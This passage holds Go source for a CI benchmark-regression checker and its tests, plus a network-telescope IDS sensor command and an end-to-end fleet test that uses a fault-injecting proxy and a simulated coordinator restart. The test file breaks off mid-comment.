		{Name: "BenchmarkFleetThroughput/sensors=4", NsPerOp: 6000},
	})
	// +5% over baseline: fine at 30%, fatal at 1%.
	if err := run([]string{"-baseline", path}, strings.NewReader(sampleOutput), &strings.Builder{}); err != nil {
		t.Fatalf("default threshold: %v", err)
	}
	if err := run([]string{"-baseline", path, "-threshold", "0.01"}, strings.NewReader(sampleOutput), &strings.Builder{}); err == nil {
		t.Fatal("1% threshold accepted a 5% regression")
	}
}

func TestRunRejectsEmptyInput(t *testing.T) {
	path := writeBaseline(t, nil)
	if err := run([]string{"-baseline", path}, strings.NewReader("PASS\n"), &strings.Builder{}); err == nil {
		t.Fatal("empty benchmark output accepted")
	}
}

// streamOutput mimics the e2e streaming bench: an explicit gomaxprocs metric
// (which wins over the -N name suffix) and events/s on each line.
const streamOutput = `goos: linux
BenchmarkStreamStudy/serial-8     	1	90000000 ns/op	     50000 events/s	         1.000 gomaxprocs
BenchmarkStreamStudy/sharded-8    	1	20000000 ns/op	    220000 events/s	         8.000 gomaxprocs
BenchmarkStreamStudy/stress-8     	1	95000000 ns/op	    210000 events/s	         8.000 gomaxprocs
PASS
`

func TestParseBenchGomaxprocs(t *testing.T) {
	got, err := parseBench(strings.NewReader(streamOutput))
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 3 {
		t.Fatalf("parsed %d results, want 3", len(got))
	}
	if got[0].gomaxprocs != 1 {
		t.Errorf("serial: explicit gomaxprocs metric should win over -8 suffix, got %d", got[0].gomaxprocs)
	}
	if got[1].gomaxprocs != 8 {
		t.Errorf("sharded: gomaxprocs = %d, want 8", got[1].gomaxprocs)
	}
	sample, err := parseBench(strings.NewReader(sampleOutput))
	if err != nil {
		t.Fatal(err)
	}
	if sample[0].gomaxprocs != 8 {
		t.Errorf("without an explicit metric the -N suffix should be kept, got %d", sample[0].gomaxprocs)
	}
}

// TestRunSkipsMismatchedGomaxprocs: a baseline recorded at one core count
// must not fail a run at another — not comparable, so SKIP, not FAIL.
func TestRunSkipsMismatchedGomaxprocs(t *testing.T) {
	path := writeBaseline(t, []benchSpec{
		// Recorded on a 1-core box with throughput far above what this
		// (8-core-labelled) run reports: would fail if compared.
		{Name: "BenchmarkStreamStudy/sharded", NsPerOp: 1, EventsPerSec: 10000000, GOMAXPROCS: 1},
		{Name: "BenchmarkStreamStudy/serial", NsPerOp: 1 << 30, EventsPerSec: 1, GOMAXPROCS: 1},
		{Name: "BenchmarkStreamStudy/stress", NsPerOp: 1 << 30, EventsPerSec: 1, GOMAXPROCS: 8},
	})
	var out strings.Builder
	if err := run([]string{"-baseline", path}, strings.NewReader(streamOutput), &out); err != nil {
		t.Fatalf("mismatched-GOMAXPROCS baseline failed the run: %v\n%s", err, out.String())
	}
	if !strings.Contains(out.String(), "SKIP BenchmarkStreamStudy/sharded") ||
		!strings.Contains(out.String(), "not comparable") {
		t.Errorf("missing not-comparable SKIP:\n%s", out.String())
	}
	// serial ran at 1 core matching its baseline, stress at 8 matching its
	// baseline: both still compared.
	if !strings.Contains(out.String(), "ok   BenchmarkStreamStudy/serial") ||
		!strings.Contains(out.String(), "ok   BenchmarkStreamStudy/stress") {
		t.Errorf("matching-GOMAXPROCS benches not compared:\n%s", out.String())
	}
}

func TestRunMinGomaxprocs(t *testing.T) {
	if err := run([]string{"-baseline", "", "-min-gomaxprocs", "4"}, strings.NewReader(streamOutput), &strings.Builder{}); err != nil {
		t.Fatalf("8-core output failed -min-gomaxprocs 4: %v", err)
	}
	err := run([]string{"-baseline", "", "-min-gomaxprocs", "16"}, strings.NewReader(streamOutput), &strings.Builder{})
	if err == nil || !strings.Contains(err.Error(), "GOMAXPROCS") {
		t.Fatalf("8-core output passed -min-gomaxprocs 16: %v", err)
	}
}

func TestRunSpeedupGate(t *testing.T) {
	spec := "BenchmarkStreamStudy/sharded,BenchmarkStreamStudy/serial,"
	var out strings.Builder
	// 220000/50000 = 4.4x: passes a 3x floor, fails a 5x floor.
	if err := run([]string{"-baseline", "", "-speedup", spec + "3.0"}, strings.NewReader(streamOutput), &out); err != nil {
		t.Fatalf("4.4x speedup failed a 3x gate: %v", err)
	}
	if !strings.Contains(out.String(), "speedup") {
		t.Errorf("passing gate not reported:\n%s", out.String())
	}
	err := run([]string{"-baseline", "", "-speedup", spec + "5.0"}, strings.NewReader(streamOutput), &strings.Builder{})
	if err == nil || !strings.Contains(err.Error(), "speedup") {
		t.Fatalf("4.4x speedup passed a 5x gate: %v", err)
	}
	// A missing side is fatal: the gate must not silently stop gating.
	err = run([]string{"-baseline", "", "-speedup", "BenchmarkNope,BenchmarkStreamStudy/serial,3.0"}, strings.NewReader(streamOutput), &strings.Builder{})
	if err == nil {
		t.Fatal("missing numerator accepted")
	}
	if err := run([]string{"-baseline", "", "-speedup", "a,b"}, strings.NewReader(streamOutput), &strings.Builder{}); err == nil {
		t.Fatal("malformed -speedup spec accepted")
	}
}
