// Command benchsmoke compares `go test -bench` output against the recorded
// baseline in BENCH_fleet.json and fails on regressions, so CI catches a
// change that quietly slows the ingest hot path. It reads benchmark output
// on stdin:
//
//	go test -run xxx -bench . -benchtime 1s ./internal/fleet/ | benchsmoke -baseline BENCH_fleet.json
//
// A benchmark regresses when its ns/op exceeds the baseline by more than
// -threshold (default 0.30, i.e. 30%), or its events/s falls below the
// baseline by the same margin. CI runners are noisy shared machines, hence
// the generous default; the point is to catch the 2x cliff, not a 5% drift.
// allocs/op (present when the bench ran with -benchmem) is different: a
// baseline of 0 is a hard zero-allocation guarantee — any allocation fails,
// no threshold — while a nonzero baseline uses the usual margin.
// Benchmarks present in the output but absent from the baseline (or the
// reverse) are reported but never fatal, so adding a benchmark does not
// break CI before the baseline is regenerated.
//
// Parallelism-sensitive baselines record the core count they were measured
// at (a "gomaxprocs" metric in the bench output, or the -N name suffix); a
// result whose core count differs from its baseline's is SKIPped, never
// failed — absolute throughput recorded at one width says nothing about
// another. Two flags serve multi-core CI: -min-gomaxprocs fails fast when
// the runner has fewer cores than the job assumes, and -speedup NUM,DEN,MIN
// gates the events/s ratio of two benchmarks from the same run (e.g. the
// sharded pipeline must beat the serial one 3x) — a relative check that is
// immune to runner speed. -baseline "" skips the baseline comparison
// entirely, for jobs that only use -speedup/-min-gomaxprocs.
package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"strconv"
	"strings"
)

func main() {
	if err := run(os.Args[1:], os.Stdin, os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "benchsmoke:", err)
		os.Exit(1)
	}
}

type baseline struct {
	Description string      `json:"description"`
	Benchmarks  []benchSpec `json:"benchmarks"`
}

type benchSpec struct {
	Name         string  `json:"name"`
	NsPerOp      float64 `json:"ns_per_op"`
	EventsPerSec float64 `json:"events_per_sec"`
	// AllocsPerOp is a pointer because zero is meaningful: a recorded 0
	// demands the benchmark stay allocation-free, while an absent field
	// skips the check entirely.
	AllocsPerOp *float64 `json:"allocs_per_op,omitempty"`
	// GOMAXPROCS is the core count the baseline was recorded at. When set,
	// results measured at a different count are skipped, not compared:
	// throughput numbers only transfer between equally-wide runners.
	GOMAXPROCS int `json:"gomaxprocs,omitempty"`
}

// result is one parsed benchmark output line.
type result struct {
	name         string
	nsPerOp      float64
	eventsPerSec float64
	allocsPerOp  float64
	hasAllocs    bool
	gomaxprocs   int
}

func run(args []string, stdin io.Reader, stdout io.Writer) error {
	fs := flag.NewFlagSet("benchsmoke", flag.ContinueOnError)
	basePath := fs.String("baseline", "BENCH_fleet.json", "baseline JSON file (empty skips the baseline comparison)")
	threshold := fs.Float64("threshold", 0.30, "allowed fractional regression before failing")
	minProcs := fs.Int("min-gomaxprocs", 0, "fail unless the benchmarks ran with at least this many cores")
	speedup := fs.String("speedup", "", "NUM,DEN,MIN: require events/s of bench NUM >= MIN times bench DEN (within this run)")
	if err := fs.Parse(args); err != nil {
		return err
	}

	results, err := parseBench(stdin)
	if err != nil {
		return err
	}
	if len(results) == 0 {
		return fmt.Errorf("no benchmark lines on stdin")
	}

	if *minProcs > 0 {
		procs := 0
		for _, r := range results {
			if r.gomaxprocs > procs {
				procs = r.gomaxprocs
			}
		}
		if procs < *minProcs {
			return fmt.Errorf("benchmarks ran at GOMAXPROCS=%d, need at least %d", procs, *minProcs)
		}
	}
	if *speedup != "" {
		if err := checkSpeedup(*speedup, results, stdout); err != nil {
			return err
		}
	}
	if *basePath == "" {
		return nil
	}

	raw, err := os.ReadFile(*basePath)
	if err != nil {
		return err
	}
	var base baseline
	if err := json.Unmarshal(raw, &base); err != nil {
		return fmt.Errorf("%s: %w", *basePath, err)
	}
	want := make(map[string]benchSpec, len(base.Benchmarks))
	for _, b := range base.Benchmarks {
		want[b.Name] = b
	}

	failed := 0
	seen := make(map[string]bool, len(results))
	for _, r := range results {
		seen[r.name] = true
		b, ok := want[r.name]
		if !ok {
			fmt.Fprintf(stdout, "SKIP %s: not in baseline\n", r.name)
			continue
		}
		if b.GOMAXPROCS > 0 && r.gomaxprocs > 0 && b.GOMAXPROCS != r.gomaxprocs {
			fmt.Fprintf(stdout, "SKIP %s: baseline recorded at GOMAXPROCS=%d, this run used %d; not comparable\n",
				r.name, b.GOMAXPROCS, r.gomaxprocs)
			continue
		}
		ok = true
		if b.NsPerOp > 0 && r.nsPerOp > b.NsPerOp*(1+*threshold) {
			fmt.Fprintf(stdout, "FAIL %s: %.0f ns/op vs baseline %.0f (+%.0f%%, limit +%.0f%%)\n",
				r.name, r.nsPerOp, b.NsPerOp, 100*(r.nsPerOp/b.NsPerOp-1), 100**threshold)
			ok = false
		}
		if b.EventsPerSec > 0 && r.eventsPerSec > 0 && r.eventsPerSec < b.EventsPerSec*(1-*threshold) {
			fmt.Fprintf(stdout, "FAIL %s: %.0f events/s vs baseline %.0f (-%.0f%%, limit -%.0f%%)\n",
				r.name, r.eventsPerSec, b.EventsPerSec, 100*(1-r.eventsPerSec/b.EventsPerSec), 100**threshold)
			ok = false
		}
		if b.AllocsPerOp != nil && r.hasAllocs {
			switch base := *b.AllocsPerOp; {
			case base == 0 && r.allocsPerOp > 0:
				fmt.Fprintf(stdout, "FAIL %s: %.0f allocs/op, baseline demands zero\n", r.name, r.allocsPerOp)
				ok = false
			case base > 0 && r.allocsPerOp > base*(1+*threshold):
				fmt.Fprintf(stdout, "FAIL %s: %.0f allocs/op vs baseline %.0f (+%.0f%%, limit +%.0f%%)\n",
					r.name, r.allocsPerOp, base, 100*(r.allocsPerOp/base-1), 100**threshold)
				ok = false
			}
		}
		if ok {
			fmt.Fprintf(stdout, "ok   %s: %.0f ns/op (baseline %.0f)\n", r.name, r.nsPerOp, b.NsPerOp)
		} else {
			failed++
		}
	}
	for name := range want {
		if !seen[name] {
			fmt.Fprintf(stdout, "SKIP %s: in baseline but not in output\n", name)
		}
	}
	if failed > 0 {
		return fmt.Errorf("%d benchmark(s) regressed beyond %.0f%%", failed, 100**threshold)
	}
	return nil
}

// checkSpeedup enforces a within-run throughput ratio: "NUM,DEN,MIN" demands
// events/s(NUM) >= MIN * events/s(DEN). Both benchmarks must be present with
// an events/s metric — a missing side is an error, not a skip, because the
// whole point of the gate is that it cannot silently stop gating.
func checkSpeedup(spec string, results []result, stdout io.Writer) error {
	parts := strings.Split(spec, ",")
	if len(parts) != 3 {
		return fmt.Errorf("-speedup wants NUM,DEN,MIN, got %q", spec)
	}
	min, err := strconv.ParseFloat(parts[2], 64)
	if err != nil || min <= 0 {
		return fmt.Errorf("-speedup ratio %q: want a positive number", parts[2])
	}
	find := func(name string) (result, error) {
		for _, r := range results {
			if r.name == name {
				if r.eventsPerSec <= 0 {
					return r, fmt.Errorf("-speedup: %s reports no events/s", name)
				}
				return r, nil
			}
		}
		return result{}, fmt.Errorf("-speedup: benchmark %s not in output", name)
	}
	num, err := find(parts[0])
	if err != nil {
		return err
	}
	den, err := find(parts[1])
	if err != nil {
		return err
	}
	ratio := num.eventsPerSec / den.eventsPerSec
	if ratio < min {
		return fmt.Errorf("speedup %s/%s = %.2fx, need >= %.2fx (%.0f vs %.0f events/s)",
			parts[0], parts[1], ratio, min, num.eventsPerSec, den.eventsPerSec)
	}
	fmt.Fprintf(stdout, "ok   speedup %s/%s = %.2fx (>= %.2fx)\n", parts[0], parts[1], ratio, min)
	return nil
}

// parseBench extracts results from `go test -bench` text output. A benchmark
// line looks like:
//
//	BenchmarkFleetThroughput/sensors=4-8   112610   12252 ns/op   8.16 MB/s   326744 events/s
//
// The trailing -N on the name is the GOMAXPROCS suffix, stripped so names
// match the baseline regardless of runner core count (the count is kept as
// the result's gomaxprocs; an explicit "gomaxprocs" metric from
// b.ReportMetric wins over the suffix). Everything after the iteration count
// is value/unit pairs.
func parseBench(r io.Reader) ([]result, error) {
	var out []result
	sc := bufio.NewScanner(r)
	for sc.Scan() {
		fields := strings.Fields(sc.Text())
		if len(fields) < 4 || !strings.HasPrefix(fields[0], "Benchmark") {
			continue
		}
		name := fields[0]
		suffixProcs := 0
		if i := strings.LastIndex(name, "-"); i > 0 {
			if n, err := strconv.Atoi(name[i+1:]); err == nil {
				name = name[:i]
				suffixProcs = n
			}
		}
		res := result{name: name, gomaxprocs: suffixProcs}
		for i := 2; i+1 < len(fields); i += 2 {
			v, err := strconv.ParseFloat(fields[i], 64)
			if err != nil {
				continue
			}
			switch fields[i+1] {
			case "ns/op":
				res.nsPerOp = v
			case "events/s":
				res.eventsPerSec = v
			case "allocs/op":
				res.allocsPerOp = v
				res.hasAllocs = true
			case "gomaxprocs":
				res.gomaxprocs = int(v)
			}
		}
		if res.nsPerOp > 0 {
			out = append(out, res)
		}
	}
	return out, sc.Err()
}
