// Command waybacksensor is one node of the distributed capture fleet: it
// runs the full local pipeline — tail rotating pcap segments, reassemble TCP
// sessions, match them against the dated IDS ruleset — over its shard of the
// telescope address space, and ships the attributed events upstream to a
// waybackd coordinator over the fleet wire protocol.
//
// Matched events are spooled durably before they are sent, so a dead
// coordinator (or a sensor restart) loses nothing: delivery resumes from the
// coordinator's acked watermark with exactly-once ingest on the far side.
// The exactly-once guarantee covers wire-level redelivery and clean
// shutdowns; a hard sensor crash (kill -9, power loss) re-captures the
// window since the last ingest checkpoint — written at every idle flush —
// and re-ships those events under fresh sequence numbers the coordinator
// cannot recognize as duplicates.
//
// Usage:
//
//	waybacksensor -watch capture/ -state state/ -coordinator host:8417
//	              [-id sensor-0] [-shard 0 -shards 1] [-seed 1]
//	              [-codec snappy] [-window 8] [-heartbeat 1s]
//	              [-prefix dscope] [-poll 100ms] [-flush-idle 2s]
//	              [-batch 256] [-workers 0]
//	              [-rules-dir rules/] [-rules-reload 5s]
//
// With -rules-dir the sensor hot-reloads its matcher from a versioned
// ruleset registry: publications appended to the journal (waybackctl rules
// publish -dir) swap the compiled engine between batches without dropping a
// session. Digest recording and retroactive rescans stay with the
// coordinator, which owns the event store.
//
// Shutdown (SIGINT/SIGTERM) drains the capture already on disk through
// matching into the spool, then waits briefly for the coordinator to ack;
// anything still unacked stays spooled for the next start.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"sync/atomic"
	"syscall"
	"time"

	"repro/internal/fleet"
	"repro/internal/ids"
	"repro/internal/ingest"
	"repro/internal/registry"
	"repro/wayback"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "waybacksensor:", err)
		os.Exit(1)
	}
}

// sensor holds the wired components; split from run so tests can drive the
// exact production wiring in-process.
type sensor struct {
	pipeline *ingest.Pipeline
	shipper  *fleet.Shipper
	registry *registry.Registry // nil without -rules-dir

	rulesStop chan struct{}
	rulesDone chan struct{}
}

type sensorConfig struct {
	watchDir    string
	stateDir    string
	coordinator string
	id          string
	shard       int
	shards      int
	seed        int64
	codec       string
	window      int
	heartbeat   time.Duration
	prefix      string
	poll        time.Duration
	flushIdle   time.Duration
	batch       int
	workers     int
	reasmShards int           // flow-sharded reassembly width; 0 = default
	rulesDir    string        // versioned ruleset registry directory; empty = off
	rulesReload time.Duration // journal poll interval; 0 = 5s

	// test knobs
	backoffMin     time.Duration
	backoffMax     time.Duration
	enforceShardOf bool
}

func openSensor(cfg sensorConfig) (*sensor, error) {
	codec, err := fleet.ParseCodec(cfg.codec)
	if err != nil {
		return nil, err
	}
	study, err := wayback.NewStudy(wayback.Config{Seed: cfg.seed})
	if err != nil {
		return nil, err
	}
	// Heartbeats report local backlog so the coordinator's /v1/fleet shows
	// lag even while the wire is idle. The pipeline is wired after the
	// shipper, so the holder is an atomic pointer: heartbeat reads race a
	// startup write.
	var lagSrc atomic.Pointer[ingest.Pipeline]
	shipper, err := fleet.StartShipper(fleet.ShipperConfig{
		Addr:           cfg.coordinator,
		SensorID:       cfg.id,
		Shard:          cfg.shard,
		Shards:         cfg.shards,
		StateDir:       cfg.stateDir,
		Codec:          codec,
		Window:         cfg.window,
		HeartbeatEvery: cfg.heartbeat,
		BackoffMin:     cfg.backoffMin,
		BackoffMax:     cfg.backoffMax,
		Lag: func() int64 {
			if p := lagSrc.Load(); p != nil {
				return p.Metrics().Lag()
			}
			return 0
		},
	})
	if err != nil {
		return nil, err
	}
	var sink ingest.Sink = shipper
	if cfg.enforceShardOf && cfg.shards > 1 {
		sink = &shardSink{inner: shipper, shard: cfg.shard, shards: cfg.shards}
	}
	var reg *registry.Registry
	if cfg.rulesDir != "" {
		reg, err = registry.Open(registry.Config{
			Dir:    cfg.rulesDir,
			Base:   study.DatedRuleset(),
			Engine: study.EngineConfig(),
		})
		if err != nil {
			shipper.Close()
			return nil, err
		}
	}
	icfg := ingest.Config{
		Dir:           cfg.watchDir,
		Prefix:        cfg.prefix,
		Engine:        study.Engine(),
		Sink:          sink,
		CheckpointDir: cfg.stateDir,
		PollInterval:  cfg.poll,
		FlushIdle:     cfg.flushIdle,
		BatchSessions: cfg.batch,
		MatchWorkers:  cfg.workers,
		DecodeShards:  cfg.reasmShards,
	}
	if reg != nil {
		// Hot reload only: the sensor matches with the registry's live
		// engine, while digests and retroactive rescans stay with the
		// coordinator that owns the event store.
		icfg.EngineSource = reg.Engine
	}
	pipeline, err := ingest.Start(icfg)
	if err != nil {
		if reg != nil {
			reg.Close()
		}
		shipper.Close()
		return nil, err
	}
	lagSrc.Store(pipeline)
	s := &sensor{pipeline: pipeline, shipper: shipper, registry: reg}
	if reg != nil {
		interval := cfg.rulesReload
		if interval <= 0 {
			interval = 5 * time.Second
		}
		s.rulesStop = make(chan struct{})
		s.rulesDone = make(chan struct{})
		go func() {
			defer close(s.rulesDone)
			t := time.NewTicker(interval)
			defer t.Stop()
			for {
				select {
				case <-s.rulesStop:
					return
				case <-t.C:
					if _, err := reg.Refresh(); err != nil {
						fmt.Fprintln(os.Stderr, "waybacksensor: ruleset:", err)
					}
				}
			}
		}()
	}
	return s, nil
}

// shardSink drops events that belong to another sensor's address-space
// shard, so a fleet can even tail one shared (unsharded) capture and still
// partition it cleanly: every event reaches the coordinator exactly once,
// from exactly one sensor.
type shardSink struct {
	inner  ingest.Sink
	shard  int
	shards int
}

func (s *shardSink) AppendBatch(events []ids.Event) error {
	// A fresh slice, not events[:0]: filtering in place would rearrange the
	// caller's batch while the shipper's spool holds the kept events past
	// this call — correctness must not hinge on the caller never touching
	// its slice again.
	kept := make([]ids.Event, 0, len(events))
	for i := range events {
		if fleet.ShardOf(events[i].Dst.Addr, s.shards) == s.shard {
			kept = append(kept, events[i])
		}
	}
	return s.inner.AppendBatch(kept)
}

// close drains capture into the spool, gives the shipper drainWait to flush
// acks, then shuts down. Unacked batches stay spooled.
func (s *sensor) close(drainWait time.Duration) error {
	if s.rulesStop != nil {
		close(s.rulesStop)
		<-s.rulesDone
	}
	err := s.pipeline.Close()
	if s.registry != nil {
		if rerr := s.registry.Close(); err == nil {
			err = rerr
		}
	}
	if drainWait > 0 {
		ctx, cancel := context.WithTimeout(context.Background(), drainWait)
		s.shipper.WaitDrained(ctx)
		cancel()
	}
	if serr := s.shipper.Close(); err == nil {
		err = serr
	}
	return err
}

func run(args []string) error {
	fs := flag.NewFlagSet("waybacksensor", flag.ContinueOnError)
	watch := fs.String("watch", "", "directory of rotating pcap segments to tail (required)")
	state := fs.String("state", "", "sensor state directory: spool + ingest checkpoint (required)")
	coordinator := fs.String("coordinator", "", "coordinator fleet address host:port (required)")
	id := fs.String("id", "", "stable sensor id (required; keys the coordinator watermark)")
	shard := fs.Int("shard", 0, "this sensor's address-space shard index")
	shards := fs.Int("shards", 1, "total shards in the fleet")
	seed := fs.Int64("seed", 1, "study seed (selects the ruleset)")
	codec := fs.String("codec", "snappy", "batch compression: snappy, deflate, raw")
	window := fs.Int("window", 8, "max unacked batches in flight")
	heartbeat := fs.Duration("heartbeat", time.Second, "heartbeat interval while idle")
	prefix := fs.String("prefix", "dscope", "segment filename prefix")
	poll := fs.Duration("poll", 100*time.Millisecond, "tail poll interval")
	flushIdle := fs.Duration("flush-idle", 2*time.Second, "flush open connections after this much capture silence")
	batch := fs.Int("batch", 256, "sessions per match batch")
	workers := fs.Int("workers", 0, "match workers (0 = GOMAXPROCS)")
	fs.IntVar(workers, "match-workers", 0, "alias of -workers")
	reasmShards := fs.Int("reasm-shards", 0, "flow-sharded reassembly width (0 = min(8, GOMAXPROCS))")
	rulesDir := fs.String("rules-dir", "", "versioned ruleset registry directory to hot-reload from; empty = off")
	rulesReload := fs.Duration("rules-reload", 5*time.Second, "ruleset journal poll interval")
	filter := fs.Bool("shard-filter", true, "drop events outside this sensor's shard (lets sensors share one capture)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *watch == "" || *state == "" || *coordinator == "" || *id == "" {
		return errors.New("-watch, -state, -coordinator and -id are required")
	}
	if *shards < 1 || *shard < 0 || *shard >= *shards {
		return fmt.Errorf("-shard %d out of range of -shards %d", *shard, *shards)
	}

	s, err := openSensor(sensorConfig{
		watchDir: *watch, stateDir: *state, coordinator: *coordinator,
		id: *id, shard: *shard, shards: *shards, seed: *seed,
		codec: *codec, window: *window, heartbeat: *heartbeat,
		prefix: *prefix, poll: *poll, flushIdle: *flushIdle,
		batch: *batch, workers: *workers, reasmShards: *reasmShards,
		rulesDir: *rulesDir, rulesReload: *rulesReload,
		enforceShardOf: *filter,
	})
	if err != nil {
		return err
	}
	fmt.Printf("waybacksensor %s: shard %d/%d, tailing %s, shipping to %s\n",
		*id, *shard, *shards, *watch, *coordinator)

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	<-ctx.Done()
	fmt.Println("waybacksensor: draining")
	err = s.close(10 * time.Second)
	m := s.pipeline.Metrics()
	sm := s.shipper.Metrics()
	fmt.Printf("waybacksensor: drained (%d packets, %d sessions, %d events; %d batches spooled, acked through %d)\n",
		m.Packets, m.Sessions, m.Events, sm.Spooled, sm.AckedSeq)
	return err
}
