package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"repro/internal/eventstore"
	"repro/internal/fleet"
	"repro/internal/ids"
	"repro/internal/packet"
	"repro/internal/pcapio"
	"repro/internal/scanner"
	"repro/internal/serve"
	"repro/internal/tcpasm"
	"repro/internal/telescope"
	"repro/wayback"
)

// flakyProxy sits between sensors and the coordinator and kills each
// connection pair after a byte budget, doubling the budget per kill so
// progress is guaranteed; after maxKills the wire behaves.
type flakyProxy struct {
	ln      net.Listener
	backend string
	budget  atomic.Int64
	kills   atomic.Int64
	maxKill int64
	wg      sync.WaitGroup
}

func startFlakyProxy(t *testing.T, backend string, firstBudget int64, maxKills int64) *flakyProxy {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	p := &flakyProxy{ln: ln, backend: backend, maxKill: maxKills}
	p.budget.Store(firstBudget)
	p.wg.Add(1)
	go p.serve()
	t.Cleanup(func() {
		ln.Close()
		p.wg.Wait()
	})
	return p
}

func (p *flakyProxy) addr() string { return p.ln.Addr().String() }

func (p *flakyProxy) serve() {
	defer p.wg.Done()
	for {
		conn, err := p.ln.Accept()
		if err != nil {
			return
		}
		p.wg.Add(1)
		go p.pipe(conn)
	}
}

func (p *flakyProxy) pipe(down net.Conn) {
	defer p.wg.Done()
	up, err := net.DialTimeout("tcp", p.backend, 2*time.Second)
	if err != nil {
		down.Close()
		return
	}
	var moved atomic.Int64
	var once sync.Once
	kill := func() { once.Do(func() { down.Close(); up.Close() }) }
	budget := int64(-1)
	if p.kills.Load() < p.maxKill {
		budget = p.budget.Load()
	}
	copy := func(dst, src net.Conn) {
		defer p.wg.Done()
		buf := make([]byte, 4096)
		for {
			n, err := src.Read(buf)
			if n > 0 {
				if budget >= 0 && moved.Add(int64(n)) > budget {
					if p.kills.Add(1) <= p.maxKill {
						p.budget.Store(budget * 2)
						kill()
						return
					}
				}
				if _, werr := dst.Write(buf[:n]); werr != nil {
					kill()
					return
				}
			}
			if err != nil {
				kill()
				return
			}
		}
	}
	p.wg.Add(2)
	go copy(up, down)
	go copy(down, up)
}

// coordinator is the waybackd fleet wiring, reopened across the simulated
// crash: eventstore + fleet listener (sharing the watermark journal dir) +
// the HTTP query layer.
type coordinator struct {
	store *eventstore.Store
	fl    *fleet.Listener
	srv   *serve.Server
}

func openCoordinator(t *testing.T, study *wayback.Study, storeDir string, ln net.Listener) *coordinator {
	t.Helper()
	store, err := wayback.OpenStore(storeDir)
	if err != nil {
		t.Fatal(err)
	}
	fl, err := fleet.Listen(fleet.ListenerConfig{Listener: ln, Sink: store, Dir: store.Dir()})
	if err != nil {
		t.Fatal(err)
	}
	srv, err := serve.New(serve.Config{Study: study, Store: store, Fleet: fl})
	if err != nil {
		t.Fatal(err)
	}
	return &coordinator{store: store, fl: fl, srv: srv}
}

func (c *coordinator) close(t *testing.T) {
	t.Helper()
	if err := c.fl.Close(); err != nil {
		t.Fatalf("closing fleet listener: %v", err)
	}
	if err := c.store.Close(); err != nil {
		t.Fatalf("closing store: %v", err)
	}
}

// TestFleetEndToEnd is the acceptance test for the distributed fleet: three
// sensors shipping through a connection-killing proxy, plus one coordinator
// crash-and-restart mid-stream, still converge to a store with exactly the
// batch study's events — zero duplicates — and a /v1/tables/4 byte-identical
// to the batch Study.Run() rendering.
func TestFleetEndToEnd(t *testing.T) {
	const seed, scale, shards = 1, 50, 3

	// Batch truth.
	study, err := wayback.NewStudy(wayback.Config{Seed: seed, Scale: scale, PipelineTimelines: true})
	if err != nil {
		t.Fatal(err)
	}
	batch, err := study.Run()
	if err != nil {
		t.Fatal(err)
	}
	wantTable4 := batch.Table4().String()

	// Coordinator on a pinned port (so a restart rebinds the same address).
	flLn, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	flAddr := flLn.Addr().String()
	storeDir := t.TempDir()
	coord := openCoordinator(t, study, storeDir, flLn)

	// The proxy injects disconnects between every sensor and the coordinator.
	proxy := startFlakyProxy(t, flAddr, 2<<10, 6)

	// Shard-partitioned captures, waybackfeed-style: each sensor tails its own
	// slice of the telescope's traffic.
	bps, err := scanner.Build(scanner.Config{Seed: seed, Scale: scale})
	if err != nil {
		t.Fatal(err)
	}
	sessions := telescope.NewSim(telescope.SimConfig{Seed: seed}).Sessions(bps)
	watchDirs := make([]string, shards)
	for i := range watchDirs {
		watchDirs[i] = t.TempDir()
	}

	// Sensors first, so they tail the captures as they are written.
	sensors := make([]*sensor, shards)
	ids := []string{"sensor-0", "sensor-1", "sensor-2"}
	for i := 0; i < shards; i++ {
		s, err := openSensor(sensorConfig{
			watchDir: watchDirs[i], stateDir: t.TempDir(),
			coordinator: proxy.addr(), id: ids[i],
			shard: i, shards: shards, seed: seed,
			codec: "snappy", window: 4, heartbeat: 50 * time.Millisecond,
			prefix: "dscope", poll: 5 * time.Millisecond,
			flushIdle: 50 * time.Millisecond, batch: 64,
			backoffMin: 20 * time.Millisecond, backoffMax: 300 * time.Millisecond,
			enforceShardOf: true,
		})
		if err != nil {
			t.Fatal(err)
		}
		sensors[i] = s
	}
	defer func() {
		for _, s := range sensors {
			if s != nil {
				s.close(0)
			}
		}
	}()

	// Feed: every session goes to exactly the shard its destination hashes to.
	writers := make([]*pcapio.RotatingWriter, shards)
	for i := range writers {
		writers[i], err = pcapio.NewRotatingWriter(watchDirs[i], "dscope",
			pcapio.LinkTypeEthernet, 128<<10, pcapio.WithNanoPrecision())
		if err != nil {
			t.Fatal(err)
		}
	}
	for start := 0; start < len(sessions); start += 500 {
		end := start + 500
		if end > len(sessions) {
			end = len(sessions)
		}
		chunk := sessions[start:end]
		for sh := 0; sh < shards; sh++ {
			var mine []tcpasm.Session
			for i := range chunk {
				if fleet.ShardOf(chunk[i].Server.Addr, shards) == sh {
					mine = append(mine, chunk[i])
				}
			}
			if err := telescope.SessionsToPcap(mine, writers[sh], seed); err != nil {
				t.Fatal(err)
			}
		}
		time.Sleep(2 * time.Millisecond)
	}
	for _, w := range writers {
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
	}

	// Crash the coordinator once some of the stream has been applied, then
	// bring it back on the same port with the same store + watermark journal.
	restartAt := len(batch.Events) / 5
	deadline := time.Now().Add(120 * time.Second)
	for coord.store.Len() < restartAt {
		if time.Now().After(deadline) {
			t.Fatalf("store stuck at %d/%d events before restart", coord.store.Len(), restartAt)
		}
		time.Sleep(5 * time.Millisecond)
	}
	coord.close(t)
	time.Sleep(50 * time.Millisecond) // let sensors notice and start retrying
	flLn2, err := net.Listen("tcp", flAddr)
	if err != nil {
		t.Fatal(err)
	}
	coord = openCoordinator(t, study, storeDir, flLn2)
	defer coord.close(t)

	// Convergence: drain each pipeline (the capture is fully written, so
	// Close consumes it all and flushes still-open connections into the
